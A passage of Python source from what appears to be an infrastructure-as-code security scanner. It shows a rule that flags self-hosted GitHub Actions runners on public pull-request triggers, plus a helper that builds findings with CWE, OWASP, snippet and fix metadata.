    _rule("iac.gha.self-hosted-public", _GH, "Self-hosted runner on a public trigger", _H, _MED, (250,), "A05",
          "Jobs on `runs-on: self-hosted` (or labels including it) in workflows triggered by pull_request, "
          "pull_request_target, issue_comment or similar.",
          "Anyone who can open a pull request can run code on the runner host and persist there.",
          "Use GitHub-hosted or ephemeral, isolated runners for untrusted triggers.", "", _GHA_REF),
)

BY_ID: dict[str, Rule] = {r.id: r for r in RULES}


def finding(
    rule_id: str, path: str, line: int, message: str, lines: list[str], col: int = 1,
    severity: Severity | None = None,
) -> Finding:
    """A finding of rule `rule_id` at a 1-based line/column, with the rule's metadata and fix hint."""
    rule = BY_ID[rule_id]
    snippet = lines[line - 1].strip() if 0 < line <= len(lines) else ""
    return Finding(
        rule_id=rule_id,
        message=message,
        severity=severity or rule.severity,
        confidence=rule.confidence,
        location=Location(path, line, col),
        analyzer=ANALYZER,
        cwe=rule.cwe,
        owasp=rule.owasp,
        snippet=snippet[:300],
        fix=rule.doc.fix,
    )
